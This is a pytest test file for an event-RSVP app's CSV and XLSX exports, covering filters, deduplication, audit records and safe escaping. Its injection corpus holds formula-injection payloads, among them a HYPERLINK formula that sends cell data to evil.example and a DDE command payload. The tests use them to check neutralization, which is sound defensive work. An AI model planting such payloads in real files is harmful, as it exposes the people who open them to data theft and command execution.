"""Exports: filters, columns, campaign deduplication, formula injection, round trips, audit records."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import openpyxl
import pytest
from sqlalchemy import func, select

from organizer.extensions import db
from organizer.models import Answer, ExportRecord, RsvpStatus
from organizer.services.common.errors import ValidationFailed
from organizer.services.door import checkins
from organizer.services.reports import export_files, export_spec, export_xlsx, exports
from tests import builders

INJECTION_CORPUS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1",
    "=cmd|' /C calc'!A0",
]
# PostgreSQL text can't hold NUL (and the app refuses it at the door): stored values skip it.
STORABLE_CORPUS = [value for value in INJECTION_CORPUS if "\x00" not in value]
TRICKY_NAMES = [
    "محمد الأحمد",  # Arabic
    "李小龙",  # Chinese
    "山田 太郎",  # Japanese
    "Ζωή Παπαδοπούλου",  # Greek
    "O'Brien, \"Danny\"",  # comma and quotes
    "Line one\nLine two",  # newline inside a value
    "Tab\tinside",
    "  leading spaces",
]


@pytest.fixture
def world():
    owner = builders.make_user("owner@example.org")
    campaign = builders.make_campaign(owner=owner)
    event = builders.make_event(campaign, slug="first-meeting", starts_at=datetime(2030, 3, 1, 19, 0))
    return owner, campaign, event


def csv_rows(export) -> list[list[str]]:
    data = b"".join(export_files.csv_chunks(export))
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_sheet(export):
    with export_xlsx.write_xlsx(export) as handle:
        return openpyxl.load_workbook(handle).active


def spec_for(campaign, event=None, **overrides):
    values = dict(event=event, statuses=["going"], checked_in="any", consent_only=False,
                  columns=["name", "email"], file_format="csv")
    values.update(overrides)
    return export_spec.make_spec(campaign, **values)


def test_event_export_filters_and_audit_record(world):
    owner, campaign, event = world
    amina, _, _ = builders.make_rsvp(event, name="Amina", email="amina@example.org", consent_contact=True)
    builders.make_rsvp(event, name="Bilal", email="bilal@example.org")
    builders.make_rsvp(event, name="Carla", email="carla@example.org", status=RsvpStatus.CANCELLED)
    builders.make_rsvp(event, name="Dana", email="dana@example.org", status=RsvpStatus.WAITLISTED)
    checkins.check_in(amina)
    db.session.commit()

    export = exports.start(campaign, owner, spec_for(campaign, event))
    db.session.commit()
    assert csv_rows(export) == [["Name", "Email"], ["Amina", "amina@example.org"], ["Bilal", "bilal@example.org"]]
    record = db.session.get(ExportRecord, export.record.id)
    assert (record.user_id, record.user_email, record.scope, record.event_id, record.row_count) == (
        owner.id, "owner@example.org", "event", event.id, 2)
    assert json.loads(record.filters) == {"status": ["going"], "checked_in": "any", "consent_to_contact": "any"}
    assert record.columns == "name,email"

    checked = exports.start(campaign, owner, spec_for(campaign, event, checked_in="yes"))
    assert [row[0] for row in csv_rows(checked)[1:]] == ["Amina"]
    assert checked.record.row_count == 1
    not_checked = exports.start(campaign, owner, spec_for(campaign, event, checked_in="no",
                                                          statuses=["going", "waitlisted", "cancelled"]))
    assert [row[0] for row in csv_rows(not_checked)[1:]] == ["Bilal", "Carla", "Dana"]
    assert not_checked.record.row_count == 3
    consented = exports.start(campaign, owner, spec_for(campaign, event, consent_only=True))
    assert [row[0] for row in csv_rows(consented)[1:]] == ["Amina"]
    db.session.commit()
    assert db.session.scalar(select(func.count()).select_from(ExportRecord)) == 4


def test_names_only_preset_exports_only_names(world):
    owner, campaign, event = world
    builders.make_rsvp(event, name="Amina", email="amina@example.org", phone="+44 7700 900000")
    export = exports.start(campaign, owner, spec_for(campaign, event, columns=export_spec.PRESETS["names"]))
    rows = csv_rows(export)
    assert rows == [["Name"], ["Amina"]]
    assert "amina@example.org" not in b"".join(export_files.csv_chunks(export)).decode()


def test_every_event_column_and_answers(world):
    owner, campaign, event = world
    question = builders.make_question(event, label="=Dietary needs?")
    rsvp, _, _ = builders.make_rsvp(event, name="Amina", email="amina@example.org", phone="+44 7700 900000",
                                    guests=2, consent_contact=True, created_at=datetime(2030, 2, 1, 12, 0))
    db.session.add(Answer(rsvp_id=rsvp.id, question_id=question.id, value="Halal"))
    db.session.commit()
    checkins.check_in(rsvp)
    db.session.commit()
    export = exports.start(campaign, owner, spec_for(campaign, event, columns=export_spec.PRESETS["all"]))
    header, row = csv_rows(export)
    assert header == ["Name", "Email", "Phone", "Guests", "Status", "Source", "Consent to contact", "RSVP time",
                      "Checked in", "Checked in at", "'=Dietary needs?"]
    assert row[:9] == ["Amina", "amina@example.org", "'+44 7700 900000", "2", "going", "online", "yes",
                       "2030-02-01 12:00 GMT", "yes"]
    assert row[9].endswith(("GMT", "BST")) and row[10] == "Halal"


def test_campaign_export_deduplicates_by_normalized_email(world):
    owner, campaign, first = world
    second = builders.make_event(campaign, slug="second-meeting", starts_at=datetime(2030, 4, 1, 19, 0))
    other_campaign = builders.make_campaign(owner=owner, slug="elsewhere")
    elsewhere = builders.make_event(other_campaign)
    old, _, _ = builders.make_rsvp(first, name="Amina Old", email="Amina@Example.org",
                                   created_at=datetime(2030, 1, 1), consent_contact=False)
    new, _, _ = builders.make_rsvp(second, name="Amina Yusuf", email="amina@example.org",
                                   created_at=datetime(2030, 2, 1), consent_contact=True, phone="07700 900000")
    builders.make_rsvp(first, name="No Email One", email=None)
    builders.make_rsvp(second, name="No Email One", email=None)  # same name, no email: two people
    builders.make_rsvp(first, name="Bilal", email="bilal@example.org", status=RsvpStatus.CANCELLED)
    builders.make_rsvp(elsewhere, name="Outsider", email="amina@example.org")  # another campaign
    checkins.check_in(old)
    checkins.check_in(new)
    db.session.commit()

    spec = spec_for(campaign, columns=["name", "email", "phone", "consent_contact", "events_rsvped",
                                       "events_attended", "first_rsvp_at", "last_rsvp_at"])
    export = exports.start(campaign, owner, spec)
    db.session.commit()
    rows = csv_rows(export)
    assert rows[0] == ["Name", "Email", "Phone", "Consent to contact", "Events RSVPed to", "Events attended",
                       "First RSVP", "Latest RSVP"]
    body = sorted(rows[1:])
    assert body == [
        ["Amina Yusuf", "amina@example.org", "07700 900000", "yes", "2", "2",
         "2030-01-01 00:00 GMT", "2030-02-01 00:00 GMT"],
        ["No Email One", "", "", "no", "1", "0", body[1][6], body[1][7]],
        ["No Email One", "", "", "no", "1", "0", body[2][6], body[2][7]],
    ]
    assert export.record.row_count == 3 and export.record.scope == "campaign" and export.record.event_id is None

    attended = exports.start(campaign, owner, spec_for(campaign, checked_in="yes"))
    assert [r[0] for r in csv_rows(attended)[1:]] == ["Amina Yusuf"] and attended.record.row_count == 1
    never = exports.start(campaign, owner, spec_for(campaign, checked_in="no"))
    assert [r[0] for r in csv_rows(never)[1:]] == ["No Email One", "No Email One"]
    with_cancelled = exports.start(campaign, owner, spec_for(campaign, statuses=["going", "cancelled"]))
    assert with_cancelled.record.row_count == 4
    with_cancelled.close()  # started but not read: its rows' connection is let go all the same
    consent = exports.start(campaign, owner, spec_for(campaign, consent_only=True))
    assert [r[0] for r in csv_rows(consent)[1:]] == ["Amina Yusuf"]


def test_consent_comes_from_the_latest_rsvp(world):
    owner, campaign, first = world
    second = builders.make_event(campaign)
    builders.make_rsvp(first, name="Amina", email="amina@example.org", created_at=datetime(2030, 1, 1),
                       consent_contact=True)
    builders.make_rsvp(second, name="Amina", email="amina@example.org", created_at=datetime(2030, 2, 1),
                       consent_contact=False)  # changed her mind
    export = exports.start(campaign, owner, spec_for(campaign, consent_only=True))
    assert csv_rows(export) == [["Name", "Email"]] and export.record.row_count == 0


@pytest.mark.parametrize("value", INJECTION_CORPUS)
def test_safe_cell_neutralizes_formulas(value):
    cell = export_files.safe_cell(value)
    assert cell.startswith("'")
    assert "\x00" not in cell


@pytest.mark.parametrize("value", ["Amina", "", "O'Brien", "1+1=2", "a=b", 42])
def test_safe_cell_leaves_ordinary_values(value):
    assert export_files.safe_cell(value) == value


def test_injection_corpus_is_neutralized_in_csv_and_xlsx(world):
    owner, campaign, event = world
    for index, value in enumerate(STORABLE_CORPUS):
        builders.make_rsvp(event, name=value, email=f"p{index}@example.org",
                           phone=value[:40])
    spec = spec_for(campaign, event, columns=["name", "phone"])
    export = exports.start(campaign, owner, spec)
    rows = csv_rows(export)[1:]
    assert len(rows) == len(STORABLE_CORPUS)
    for name, phone in rows:
        assert name.startswith("'") and phone.startswith("'")

    xlsx_export = exports.start(campaign, owner, spec_for(campaign, event, columns=["name", "phone"],
                                                          file_format="xlsx"))
    sheet = xlsx_sheet(xlsx_export)
    # A string cell is never evaluated: the XLSX shows what was typed, without the CSV's apostrophe.
    written = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type == "s", f"{cell.coordinate} is {cell.data_type}, not a string"
            # XlsxWriter writes a carriage return as Excel's escape, which openpyxl leaves as it is.
            written.append(cell.value.replace("_x000D_", "\r"))
    assert sorted(written) == sorted(STORABLE_CORPUS + [value[:40] for value in STORABLE_CORPUS])


def test_non_latin_names_and_punctuation_round_trip_through_csv_and_xlsx(world):
    owner, campaign, event = world
    for index, name in enumerate(TRICKY_NAMES):
        builders.make_rsvp(event, name=name, email=f"person{index}@example.org", guests=index % 3)
    spec = dict(columns=["name", "email", "guests"])
    export = exports.start(campaign, owner, spec_for(campaign, event, **spec))
    rows = csv_rows(export)
    expected = sorted(
        [[name, f"person{i}@example.org", str(i % 3)] for i, name in enumerate(TRICKY_NAMES)])
    assert sorted(rows[1:]) == expected
    raw = b"".join(export_files.csv_chunks(exports.start(campaign, owner, spec_for(campaign, event, **spec))))
    assert b"\r\n" in raw and b'"O\'Brien, ""Danny"""' in raw  # RFC 4180 quoting, CRLF line ends

    xlsx = exports.start(campaign, owner, spec_for(campaign, event, file_format="xlsx", **spec))
    sheet = xlsx_sheet(xlsx)
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["Name", "Email", "Guests"]
    assert sorted([[v[0], v[1], str(v[2])] for v in values[1:]]) == expected
    assert all(isinstance(v[2], int) for v in values[1:])  # numbers stay numbers


def test_xlsx_matches_csv(world):
    owner, campaign, event = world
    for index in range(30):
        builders.make_rsvp(event, name=f"Person {index:03d}", email=f"p{index}@example.org")
    csv_export = exports.start(campaign, owner, spec_for(campaign, event))
    xlsx_export = exports.start(campaign, owner, spec_for(campaign, event, file_format="xlsx"))
    sheet = xlsx_sheet(xlsx_export)
    assert [[c.value or "" for c in row] for row in sheet.iter_rows()] == csv_rows(csv_export)
    assert xlsx_export.record.file_format == "xlsx" and xlsx_export.record.row_count == 30


def test_csv_streams_in_chunks(world):
    owner, campaign, event = world
    for index in range(25):
        builders.make_rsvp(event, name=f"Person {index:03d}", email=None)
    export = exports.start(campaign, owner, spec_for(campaign, event, columns=["name"]))
    chunks = list(export_files.csv_chunks(export, rows_per_chunk=10))
    assert len(chunks) == 4  # header, then 10 + 10 + 5 rows
    assert b"".join(chunks).decode("utf-8-sig").count("\r\n") == 26


@pytest.mark.parametrize("overrides,field", [
    ({"statuses": []}, "statuses"),
    ({"statuses": ["maybe"]}, "statuses"),
    ({"checked_in": "perhaps"}, "checked_in"),
    ({"file_format": "pdf"}, "file_format"),
    ({"columns": ["password_hash"]}, "columns"),
    ({"columns": []}, "columns"),
])
def test_make_spec_validation(world, overrides, field):
    _owner, campaign, event = world
    with pytest.raises(ValidationFailed) as error:
        spec_for(campaign, event, **overrides)
    assert error.value.field == field


def test_make_spec_refuses_an_event_of_another_campaign(world):
    owner, campaign, _event = world
    other = builders.make_event(builders.make_campaign(owner=owner))
    with pytest.raises(ValidationFailed):
        spec_for(campaign, other)


def test_columns_of_the_other_scope_are_ignored(world):
    _owner, campaign, event = world
    spec = spec_for(campaign, event, columns=["name", "events_attended"])
    assert spec.columns == ("name",)
    spec = spec_for(campaign, None, columns=["name", "answers", "events_attended"])
    assert spec.columns == ("name", "events_attended")


def test_audit_records_newest_first(world):
    owner, campaign, event = world
    first = exports.start(campaign, owner, spec_for(campaign, event))
    second = exports.start(campaign, owner, spec_for(campaign))
    db.session.commit()
    records, has_older = exports.records(campaign)
    assert [r.id for r in records] == [second.record.id, first.record.id] and not has_older
    newest, has_older = exports.records(campaign, page=1, per_page=1)
    assert [r.id for r in newest] == [second.record.id] and has_older
    older, has_older = exports.records(campaign, page=2, per_page=1)
    assert [r.id for r in older] == [first.record.id] and not has_older


def test_answers_stream_after_the_request_session_is_closed(world):
    """The view commits the audit record and streams the CSV after the request's session is gone:
    the question columns must not need that session (an event export with answers gave a 500)."""
    owner, campaign, event = world
    question = builders.make_question(event, label="Dietary needs?")
    rsvp, _, _ = builders.make_rsvp(event, name="Amina", email="amina@example.org")
    db.session.add(Answer(rsvp_id=rsvp.id, question_id=question.id, value="Halal"))
    db.session.commit()
    export = exports.start(campaign, owner, spec_for(campaign, event, columns=["name", "answers"]))
    db.session.commit()
    assert export.filename  # the view reads it after the commit, with the session still open
    db.session.close()
    header, row = csv_rows(export)
    assert header == ["Name", "Dietary needs?"]
    assert row == ["Amina", "Halal"]
